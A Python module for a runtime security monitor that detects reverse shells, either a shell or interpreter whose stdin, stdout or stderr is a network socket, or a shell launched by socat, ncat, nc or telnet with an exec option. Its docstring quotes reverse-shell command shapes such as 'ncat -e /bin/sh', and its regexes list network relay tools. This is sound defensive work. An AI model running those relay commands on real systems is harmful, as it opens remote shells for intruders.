"""Execution:Runtime/ReverseShell: a shell or interpreter whose stdin/stdout/stderr is a network socket.

The socket source reports ``process.stdio_socket`` for any process whose fd
0, 1 or 2 is a socket, naming the highest ancestor that holds it (commands
typed into the shell inherit the socket; they are not new shells). Here only
shells and interpreters count: a daemon started by inetd or systemd socket
activation has a socket on its stdio by design. A unix socket is not a
network one (socketpairs between a supervisor and its worker).

The socat/ncat shapes that put a pty or socketpair between the socket and the
shell (``socat exec:'bash -li',pty tcp:host:port``, ``ncat -e /bin/sh``) leave
no socket on the shell's stdio; they are caught by their shape: a shell
started by a relay tool that holds a network connection and was told to
execute it.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from collectors.events import ProcessInfo, RuntimeEvent
from detectors.base import Detection, Detector, is_interpreter, is_shell, network_action, process_names

TYPE = "Execution:Runtime/ReverseShell"

# awk too: `awk '{...system($0)}'` reading a socket on stdin is a shell in all but name
AWK = re.compile(r"^[gmn]?awk$")
# Relay tools that can run a program with its stdio on their connection, and the options that make them do it.
RELAYS = re.compile(r"^(?:socat|ncat|nc|netcat|nc\.traditional|nc\.openbsd|telnet)$")  # busybox nc: comm is "nc"
RELAY_EXEC = re.compile(r"(?:^|\s)(?:-e|-c|--exec|--sh-exec|--lua-exec)(?:\s|=|$)|\b(?:exec|system):", re.I)


def is_shell_or_interpreter(info: ProcessInfo) -> bool:
    return is_shell(info) or is_interpreter(info) or any(AWK.match(n) for n in process_names(info))


class ReverseShellDetector(Detector):
    name = "reverse_shell"
    types = (TYPE,)
    kinds = ("process.stdio_socket", "process.exec")

    def on_event(self, event: RuntimeEvent) -> Iterable[Detection]:
        p = event.process
        if p is None:
            return ()
        if event.kind == "process.exec":
            return self._relayed(p, event)
        data = event.data or {}
        fds = data.get("fds") or []
        network = [f for f in fds if isinstance(f, dict) and f.get("network")]
        if not network or not is_shell_or_interpreter(p):
            return ()
        first = network[0]
        context = {
            "addressFamily": first.get("addressFamily") or data.get("addressFamily"),
            "ianaProtocolNumber": first.get("ianaProtocolNumber") or data.get("ianaProtocolNumber"),
            "socketFds": data.get("socketFds") or sorted(f.get("fd") for f in network if f.get("fd") is not None),
        }
        endpoint = {**data, **{k: v for k, v in first.items() if v is not None}}
        return (
            Detection(
                TYPE,
                p,
                context={k: v for k, v in context.items() if v is not None},
                key=(endpoint.get("remoteIp"),),
                action=network_action(endpoint),
                facts={"remoteIp": endpoint.get("remoteIp"), "remotePort": endpoint.get("remotePort")},
                time=event.time,
            ),
        )

    def _relayed(self, p: ProcessInfo, event: RuntimeEvent) -> Iterable[Detection]:
        if not is_shell(p):
            return ()
        parent = self.ctx.parent(p)
        if parent is None or not any(RELAYS.match(n) for n in process_names(parent)):
            return ()
        if not RELAY_EXEC.search(parent.command_line or ""):
            return ()
        return (
            Detection(
                TYPE,
                p,
                context={"relayProcess": parent.name, "relayCommandLine": parent.command_line},
                key=(parent.command_line,),
                facts={"remoteIp": "(through " + (parent.name or "a relay") + ")", "remotePort": ""},
                time=event.time,
            ),
        )


DETECTORS = (ReverseShellDetector,)
